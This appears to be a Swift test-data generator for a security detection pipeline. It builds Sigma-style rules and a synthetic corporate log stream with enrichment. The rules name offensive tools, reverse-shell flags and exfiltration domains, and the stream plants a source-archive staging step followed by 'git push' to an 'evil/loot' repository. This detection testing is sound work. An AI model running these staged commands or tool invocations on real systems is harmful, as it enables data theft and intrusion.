import SluiceCore

/// Deterministic pseudo-random numbers.
struct Rng {
    var s: UInt64
    mutating func next() -> UInt64 {
        s &+= 0x9E37_79B9_7F4A_7C15
        var z = s
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
    mutating func int(_ n: Int) -> Int { Int(next() % UInt64(n)) }
    mutating func pick<T>(_ a: [T]) -> T { a[int(a.count)] }
}

/// 300 community-style single-event rules, generated from templates in SigmaHQ's style
/// (Linux process creation, proxy, DNS, GitHub audit), with the modifiers such rules use.
enum CommunityRules {
    static let tools = ["nmap", "masscan", "hydra", "john", "hashcat", "chisel", "frpc", "ligolo", "sliver-client", "linpeas.sh",
                        "pspy64", "mimipenguin", "socat", "ncat", "tcpdump", "proxychains", "sshuttle", "gost", "iodine", "dnscat",
                        "rclone", "megacmd", "gsutil", "kinsing", "pnscan", "zgrab2", "tsunami", "crictl", "nsenter", "unshare",
                        "setcap", "getcap", "insmod", "modprobe", "xmrig", "minerd", "tor", "openvpn", "wireguard", "bore"]
    static let dirs = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/user/", "/home/", "/root/", "/opt/", "/srv/"]
    static let flags = ["--payload", "-e /bin/sh", "--exec", "--upload", "--reverse", "-R 0.0.0.0", "--listen", "--proxy socks5://",
                        "--no-check-certificate", "-k -X POST", "--data-binary @", "copy s3://", "cp gs://", "sync remote:"]
    static let domains = ["pastebin.com", "transfer.sh", "file.io", "anonfiles.com", "gofile.io", "ngrok.io", "trycloudflare.com",
                          "duckdns.org", "no-ip.org", "serveo.net", "localtunnel.me", "requestbin.net", "webhook.site",
                          "pipedream.net", "interact.sh", "oast.fun", "burpcollaborator.net", "mega.nz", "sendspace.com", "wetransfer.com"]
    static let actions = ["org.remove_member", "org.update_member", "repo.destroy", "repo.archived", "protected_branch.destroy",
                          "org.disable_saml", "org.oauth_app_access_approved", "hook.create", "integration_installation.create",
                          "repo.add_member", "team.add_repository", "org.invite_member", "business.remove_admin", "secret_scanning.disable"]

    static func generate(count: Int = 300) -> String {
        var r = Rng(s: 300)
        var docs: [String] = []
        for i in 0..<count {
            let id = String(format: "c0ffee00-0000-4000-8000-%012d", i)
            var d: String
            switch i % 10 {
            case 0...5:
                let tool = r.pick(tools), dir = r.pick(dirs), flag = r.pick(flags)
                switch i % 6 {
                case 0: d = "sel:\n        Image|endswith: '/\(tool)'\n    filter:\n        ParentImage|endswith: ['/ansible-playbook', '/salt-minion']\n    condition: sel and not filter"
                case 1: d = "sel_img:\n        Image|startswith: '\(dir)'\n    sel_cmd:\n        CommandLine|contains: '\(flag)'\n    condition: all of sel_*"
                case 2: d = "sel:\n        CommandLine|contains|all:\n            - '\(tool)'\n            - '\(flag)'\n    condition: sel"
                case 3: d = "sel:\n        CommandLine|re: '\(tool.replacingOccurrences(of: ".", with: "\\\\."))\\\\s+.*\(dir)'\n    condition: sel"
                case 4: d = "sel:\n        - Image|endswith: '/\(tool)'\n        - CommandLine|contains: ' \(tool) '\n    filter_root:\n        User: root\n        CurrentDirectory|startswith: '/etc/'\n    condition: sel and not filter_root"
                default: d = "sel:\n        ParentImage|endswith: ['/nginx', '/apache2', '/php-fpm', '/node']\n        Image|endswith: ['/sh', '/bash', '/\(tool)']\n    condition: sel"
                }
                docs.append(rule(id, "Suspicious \(tool) use \(i)", "category: process_creation\n    product: linux", d))
            case 6, 7:
                let dom = r.pick(domains)
                let d2 = i % 2 == 0
                    ? "sel:\n        cs-host|endswith: '\(dom)'\n        cs-method: [POST, PUT]\n    condition: sel"
                    : "sel:\n        c-uri|contains: '\(dom)/'\n        c-useragent|startswith: ['curl/', 'python-requests/', 'Go-http-client/', 'Wget/']\n    condition: sel"
                docs.append(rule(id, "Upload to \(dom) \(i)", "category: proxy", d2))
            case 8:
                let dom = r.pick(domains)
                docs.append(rule(id, "DNS query for \(dom) \(i)", "category: dns", "sel:\n        query|endswith: ['.\(dom)', '\(dom)']\n    condition: sel"))
            default:
                let a = r.pick(actions)
                docs.append(rule(id, "GitHub \(a) \(i)", "product: github\n    service: audit", "sel:\n        action: '\(a)'\n    filter:\n        actor|endswith: '[bot]'\n    condition: sel and not filter"))
            }
        }
        return docs.joined(separator: "\n---\n")
    }

    static func rule(_ id: String, _ title: String, _ ls: String, _ det: String) -> String {
        "title: \(title)\nid: \(id)\nstatus: test\nlevel: medium\ntags: [attack.execution]\nlogsource:\n    \(ls)\ndetection:\n    \(det)\n"
    }
}

/// A mixed stream: process creation (40%), proxy (25%), DNS (20%), GitHub audit (15%) for a
/// 300-person company, with a PAT clone burst, a staging-then-upload and upload volume in it.
enum MixedStream {
    static let k = (
        dataset: FieldKey("event.dataset"), category: FieldKey("event.category"), type: FieldKey("event.type"),
        exe: FieldKey("process.executable"), cmd: FieldKey("process.command_line"), user: FieldKey("user.name"),
        host: FieldKey("host.name"), pid: FieldKey("process.pid"), parent: FieldKey("process.parent.executable"),
        url: FieldKey("url.full"), domain: FieldKey("url.domain"), method: FieldKey("http.request.method"),
        ua: FieldKey("user_agent.original"), sip: FieldKey("source.ip"), out: FieldKey("source.bytes"), inb: FieldKey("destination.bytes"),
        qname: FieldKey("dns.question.name"), qtype: FieldKey("dns.question.type"),
        action: FieldKey("event.action"), repo: FieldKey("github.repo"), pat: FieldKey("github.programmatic_access_type"),
        token: FieldKey("github.hashed_token"), asn: FieldKey("source.as.number"), pub: FieldKey("github.repository_public")
    )
    static let commands: [(String, String)] = [
        ("/usr/bin/git", "git clone https://github.com/acme/payments.git"), ("/usr/bin/git", "git fetch origin"),
        ("/usr/bin/ls", "ls -la /srv/app"), ("/usr/bin/python3", "python3 manage.py migrate"), ("/usr/bin/bash", "bash -c make test"),
        ("/usr/bin/curl", "curl -fsS https://pypi.org/simple/requests/"), ("/usr/bin/ssh", "ssh deploy@10.2.3.4"),
        ("/usr/bin/tar", "tar -xzf release.tgz"), ("/usr/bin/systemctl", "systemctl status nginx"), ("/usr/bin/grep", "grep -r TODO src"),
        ("/usr/bin/node", "node server.js"), ("/usr/bin/docker", "docker ps"), ("/usr/bin/sudo", "sudo apt-get update"),
        ("/usr/bin/git", "git push git@github.com:acme/payments.git main"), ("/usr/bin/cat", "cat /etc/os-release"), ("/usr/bin/go", "go build ./..."),
    ]
    static let webDomains = ["www.google.com", "github.com", "api.github.com", "pypi.org", "registry.npmjs.org", "slack.com",
                             "login.microsoftonline.com", "objects.githubusercontent.com", "gitlab.com", "docs.python.org", "s3.amazonaws.com"]

    static func events(_ n: Int, start: Int64, span: Int64) -> [Event] {
        var r = Rng(s: 2025)
        var out: [Event] = []
        out.reserveCapacity(n)
        let users = (0..<300).map { "user\($0)" }
        let hosts = (0..<400).map { $0 < 300 ? "laptop-\($0)" : "build-\($0 - 300)" }
        for i in 0..<n {
            let t = start + Int64(Double(i) / Double(n) * Double(span))
            var e = Event(timestamp: t)
            let u = r.pick(users), h = r.pick(hosts)
            let roll = r.int(100)
            if roll < 40 {
                var (exe, cmd) = r.pick(commands)
                if i % 5000 == 17 { (exe, cmd) = ("/usr/bin/tar", "tar -czf /tmp/src.tgz /srv/git") }
                if i % 5000 == 18 { (exe, cmd) = ("/usr/bin/git", "git push https://github.com/evil/loot.git main") }
                e.append(k.dataset, .string("auditd.log")); e.append(k.category, .array([.string("process")])); e.append(k.type, .array([.string("start")]))
                e.append(k.exe, .string(exe)); e.append(k.cmd, .string(cmd)); e.append(k.user, .string(u)); e.append(k.host, .string(h))
                e.append(k.pid, .int(Int64(1000 + r.int(60000)))); e.append(k.parent, .string("/usr/bin/bash"))
            } else if roll < 65 {
                let d = r.pick(webDomains)
                e.append(k.dataset, .string("squid.access")); e.append(k.category, .array([.string("network"), .string("web")]))
                e.append(k.url, .string("https://\(d)/path/\(r.int(1000))?q=\(r.int(100))")); e.append(k.domain, .string(d))
                e.append(k.method, .string(r.int(10) == 0 ? "POST" : "GET")); e.append(k.ua, .string("Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"))
                e.append(k.sip, .string("10.1.\(r.int(4)).\(r.int(250))")); e.append(k.out, .int(Int64(200 + r.int(5000))))
                e.append(k.inb, .int(Int64(1000 + r.int(500_000)))); e.append(k.host, .string(h))
            } else if roll < 85 {
                e.append(k.dataset, .string("bind.query")); e.append(k.category, .array([.string("network")]))
                e.append(k.qname, .string(r.pick(webDomains))); e.append(k.qtype, .string("A"))
                e.append(k.sip, .string("10.1.\(r.int(4)).\(r.int(250))")); e.append(k.host, .string(h))
            } else {
                let burst = i % 20_000 < 400
                e.append(k.dataset, .string("github.audit"))
                e.append(k.action, .string(r.int(20) == 0 ? "git.push" : "git.clone"))
                e.append(k.user, .string(burst ? "mallory" : u))
                e.append(k.repo, .string("acme/repo-\(burst ? i % 997 : r.int(40))"))
                e.append(k.pat, .string(r.int(3) == 0 ? "Personal access token (classic)" : "SSH key"))
                e.append(k.token, .string("tok-\(burst ? 9 : r.int(600))")); e.append(k.asn, .int(Int64(64500 + r.int(3))))
                e.append(k.sip, .string("203.0.113.\(r.int(250))")); e.append(k.pub, .bool(false))
            }
            out.append(e)
        }
        return out
    }
}

/// The fields the shipped pipeline's parsers and enrichers add to the mixed stream, so the
/// shipped rule pack (Pipelines/rules) reads what it reads in production: the auditd parser's
/// login session (`user.audit.*`), the GitHub audit parser's members (`user_agent.original`,
/// `related.*`, `github.org`, `github.token_kind`, ...), the context enricher's asset,
/// identity and repository namespace (`sluice.asset.*`, `sluice.identity.*`,
/// `sluice.repo.*`), the repo_services enricher's `sluice.repo_service.*` on proxy and DNS
/// events for code-repository hosts, and the threat-intel enricher's `threat.enrichments`
/// (objects, as it writes them) for GitHub events from listed addresses. Values follow the
/// enrichers' rules (e.g. `github.com/acme/x.git/git-receive-pack` is operation `push`,
/// namespace `acme`, sanctioned). Deterministic; applied after `MixedStream.events`.
///
/// Assets: `laptop-N` are workstations owned by `userN`, with repo egress when N % 5 < 3
/// (developers); `build-0`…`build-89` CI runners; `build-90`…`build-99` servers without repo
/// egress. Identities: every `userN`, developer when N % 5 < 3. Git commands on hosts without
/// repo egress are replaced by `ls` (such hosts do not push daily; the pack would alert).
enum Enrichment {
    static let k = (
        auditID: FieldKey("user.audit.id"), auditName: FieldKey("user.audit.name"), userID: FieldKey("user.id"),
        cwd: FieldKey("process.working_directory"), ppid: FieldKey("process.parent.pid"), argc: FieldKey("process.args_count"),
        kind: FieldKey("event.kind"), module: FieldKey("event.module"), outcome: FieldKey("event.outcome"),
        assetName: FieldKey("sluice.asset.name"), assetRole: FieldKey("sluice.asset.role"), assetOwner: FieldKey("sluice.asset.owner"),
        assetEnv: FieldKey("sluice.asset.environment"), assetEgress: FieldKey("sluice.asset.repo_egress"),
        idName: FieldKey("sluice.identity.name"), idDept: FieldKey("sluice.identity.department"),
        idDev: FieldKey("sluice.identity.developer"), idSvc: FieldKey("sluice.identity.service_account"),
        ns: FieldKey("sluice.repo.namespace"), sanctioned: FieldKey("sluice.repo.sanctioned"),
        rsName: FieldKey("sluice.repo_service.name"), rsEndpoint: FieldKey("sluice.repo_service.endpoint"),
        rsOp: FieldKey("sluice.repo_service.operation"),
        relUser: FieldKey("related.user"), relIP: FieldKey("related.ip"), org: FieldKey("github.org"),
        tokenKind: FieldKey("github.token_kind"), transport: FieldKey("github.transport_protocol_name"),
        business: FieldKey("github.business"), docID: FieldKey("github._document_id"), country: FieldKey("source.geo.country_iso_code"),
        intel: FieldKey("threat.enrichments"), squidAction: FieldKey("squid.action"), status: FieldKey("http.response.status_code")
    )
    static let departments = ["engineering", "finance", "sales", "support", "research"]
    static let agents = ["git/2.43.0", "git/2.39.3 (Apple Git-146)", "JGit/6.7.0", "go-git/5.11", "python-requests/2.31.0", "GitHub Desktop/3.3.6"]

    static func ownerIndex(_ host: String) -> Int? { host.hasPrefix("laptop-") ? Int(host.dropFirst(7)) : nil }

    static func asset(_ e: inout Event, _ host: String) {
        e.append(k.assetName, .string(host))
        if let n = ownerIndex(host) {
            e.append(k.assetRole, .string("workstation")); e.append(k.assetOwner, .string("user\(n)"))
            e.append(k.assetEnv, .string("corp")); e.append(k.assetEgress, .bool(n % 5 < 3))
        } else {
            let n = Int(host.dropFirst(6)) ?? 0
            e.append(k.assetRole, .string(n < 90 ? "ci_runner" : "server")); e.append(k.assetOwner, .string("platform"))
            e.append(k.assetEnv, .string(n < 90 ? "ci" : "prod")); e.append(k.assetEgress, .bool(n < 90))
        }
    }

    static func egress(_ host: String) -> Bool {
        if let n = ownerIndex(host) { return n % 5 < 3 }
        return (Int(host.dropFirst(6)) ?? 0) < 90
    }

    static func identity(_ e: inout Event, _ user: String) {
        let n = Int(user.dropFirst(4)) ?? 0
        e.append(k.idName, .string(user)); e.append(k.idDept, .string(departments[n % 5 < 3 ? 0 : 1 + n % 4]))
        e.append(k.idDev, .bool(n % 5 < 3)); e.append(k.idSvc, .bool(false))
    }

    /// (service, endpoint) of the repo_services catalog for the stream's hosts.
    static func service(_ domain: String) -> (String, String)? {
        switch domain {
        case "github.com": return ("github", "web")
        case "api.github.com": return ("github", "api")
        case "objects.githubusercontent.com": return ("github", "raw")
        case "gitlab.com": return ("gitlab", "web")
        default: return nil
        }
    }

    static func apply(_ events: inout [Event]) {
        var r = Rng(s: 1312)
        let m = MixedStream.k
        for i in events.indices {
            var e = events[i]
            let dataset = e.string(m.dataset) ?? ""
            let host = e.string(m.host) ?? ""
            switch dataset {
            case "auditd.log":
                let user = e.string(m.user) ?? ""
                // Hosts without repo egress do not run git (push/clone) as daily work.
                if !egress(host), (e.string(m.exe) ?? "") == "/usr/bin/git" {
                    e[m.exe] = .string("/usr/bin/ls"); e[m.cmd] = .string("ls -la /srv/app")
                }
                // A login session (auid) on workstations and on a third of the build hosts'
                // processes (an operator logged in); CI jobs and services have none.
                let interactive = ownerIndex(host) != nil || r.int(3) == 0
                let uid = 1000 + (Int(user.dropFirst(4)) ?? 0)
                e.append(k.userID, .string(String(uid)))
                if interactive { e.append(k.auditID, .string(String(uid))); e.append(k.auditName, .string(user)) }
                e.append(k.cwd, .string("/home/\(user)")); e.append(k.ppid, .int(Int64(900 + r.int(3000))))
                e.append(k.argc, .int(Int64(2 + r.int(5)))); e.append(k.kind, .string("event")); e.append(k.outcome, .string("success"))
                asset(&e, host); identity(&e, user)
                if let cmd = e.string(m.cmd), cmd.hasPrefix("git ") {
                    if cmd.contains("github.com/acme/") || cmd.contains("github.com:acme/") {
                        e.append(k.ns, .string("acme")); e.append(k.sanctioned, .bool(true))
                    } else if cmd.contains("github.com/evil/") {
                        e.append(k.ns, .string("evil")); e.append(k.sanctioned, .bool(false))
                    }
                }
            case "squid.access":
                e.append(k.kind, .string("event")); e.append(k.squidAction, .string("TCP_TUNNEL"))
                e.append(k.status, .int(200))
                if let n = ownerIndex(host) { let u = "user\(n)"; e.append(m.user, .string(u)); identity(&e, u) }
                asset(&e, host)
                if let d = e.string(m.domain), let (svc, ep) = service(d) {
                    e.append(k.rsName, .string(svc)); e.append(k.rsEndpoint, .string(ep))
                    // POSTs to github.com are git pushes (smart HTTP) to the company's repositories.
                    if d == "github.com", e.string(m.method) == "POST" {
                        let repo = "acme/repo-\(r.int(40))"
                        e[m.url] = .string("https://github.com/\(repo).git/git-receive-pack")
                        e.append(k.rsOp, .string("push")); e.append(k.ns, .string("acme")); e.append(k.sanctioned, .bool(true))
                        e[m.out] = .int(Int64(20_000 + r.int(2_000_000)))
                    }
                }
            case "bind.query":
                e.append(k.kind, .string("event"))
                asset(&e, host)
                if let d = e.string(m.qname), let (svc, ep) = service(d) {
                    e.append(k.rsName, .string(svc)); e.append(k.rsEndpoint, .string(ep))
                }
            case "github.audit":
                let user = e.string(m.user) ?? ""
                let ip = e.string(m.sip) ?? ""
                e.append(k.kind, .string("event")); e.append(k.module, .string("github"))
                e.append(FieldKey("user_agent.original"), .string(r.pick(agents)))
                e.append(k.relUser, .array([.string(user)])); e.append(k.relIP, .array([.string(ip)]))
                e.append(k.org, .string("acme")); e.append(k.business, .string("acme-corp"))
                e.append(k.transport, .string(r.int(2) == 0 ? "http" : "ssh")); e.append(k.country, .string("US"))
                e.append(k.docID, .string("doc-\(i)"))
                let pat = e.string(m.pat) ?? ""
                e.append(k.tokenKind, .string(pat.hasPrefix("Personal") ? "personal_access_token" : "ssh_key"))
                e.append(k.ns, .string("acme")); e.append(k.sanctioned, .bool(true))
                if user.hasPrefix("user") { identity(&e, user) }
                // Three of the 250 actor addresses are Tor exits in the intel files.
                if let last = ip.split(separator: ".").last.flatMap({ Int($0) }), last < 3 {
                    e.append(k.intel, .array([.object([
                        Field(FieldKey("indicator"), .string(ip)), Field(FieldKey("feed"), .string("tor-exits")),
                        Field(FieldKey("category"), .string("tor_exit")), Field(FieldKey("confidence"), .int(90)),
                        Field(FieldKey("matched"), .object([Field(FieldKey("field"), .string("source.ip")), Field(FieldKey("atomic"), .string(ip))])),
                    ])]))
                }
            default: break
            }
            events[i] = e
        }
    }
}
